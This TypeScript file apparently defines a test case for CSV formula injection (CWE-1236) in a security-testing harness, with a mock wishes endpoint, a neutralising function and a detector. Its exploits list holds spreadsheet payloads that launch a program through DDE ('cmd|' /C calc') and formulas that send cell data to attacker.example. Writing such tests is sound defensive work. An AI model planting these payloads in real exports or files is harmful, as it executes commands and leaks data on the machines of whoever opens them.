import type { Received } from '../client/client.ts';
import type { Step } from '../flaws/flaw.ts';
import { bytes, noContent } from '../http/answer.ts';
import { invalid, membersIn, textIn } from './asked.ts';
import { asking, defineAttack, judged, posting, type Stage } from './attack.ts';

const path = '/v1/tools/wishes';
const wishesMax = 100;

/** Wishes of customers, which the shop opens in a spreadsheet. */
export const formulaInjection = defineAttack({
  id: 'formula-injection',
  title: 'A field of a table is calculated by whoever opens it',
  cwe: 'CWE-1236',
  finding: 'attack.formula-injection',
  interpreter: 'a spreadsheet that reads CSV',
  operations: ['GET /v1/tools/wishes', 'POST /v1/tools/wishes'],
  open: openWishes,
  exploits: [
    wished('a program', "=cmd|' /C calc'!A0"),
    wished('a link that sends cells', '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'),
    wished('a request', '=WEBSERVICE("http://attacker.example/"&A2)'),
    wished('a plus before it', "+cmd|' /C calc'!A0"),
    wished('an at sign before it', "@SUM(1+1)*cmd|' /C calc'!A0"),
    wished('an import', '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")'),
    wished('a tab before it', '\t=HYPERLINK("http://attacker.example/","Open")'),
  ],
  ordinary: [
    "O'Brien & Sons",
    '-5 % on zinc',
    '+44 20 7946 0123',
    '@ada would like vitamins',
    '= the same as last time',
    '- zinc\n- aspirin',
    'a "quoted" wish, with a comma',
    '-12.50',
  ].flatMap((text): readonly Step[] => [posting(path, { text }), asking(path, {})]),
});

function wished(name: string, text: string) {
  return judged(name, [posting(path, { text }), asking(path, {})], hasFormula);
}

function openWishes(): Stage {
  const wishes: string[] = [];
  return {
    answer({ body, operation }, isFlawed) {
      if (operation.startsWith('GET')) {
        const rows = wishes.map((wish) => [wish].map((text) => field(isFlawed ? text : inert(text))).join(','));
        return bytes('text/csv; charset=utf-8', Buffer.from(['wish', ...rows, ''].join('\r\n')));
      }
      const text = textIn(membersIn(body)?.['text'], 500);
      if (text === undefined) return invalid;
      wishes.unshift(text);
      wishes.length = Math.min(wishes.length, wishesMax);
      return noContent();
    },
  };
}

/** RFC 4180, section 2. */
function field(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}

/** What spreadsheets take for text. */
function inert(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/** Whether the newest row has a field that spreadsheets calculate, with a call or a link to another program in it. */
function hasFormula({ status, body }: Received): boolean {
  if (status !== 200) return false;
  const first = /^wish\r\n"((?:[^"]|"")*)"/.exec(body.toString())?.[1]?.replaceAll('""', '"') ?? '';
  return /^\s*[=+\-@]/.test(first) && /\w\(|\|/.test(first);
}
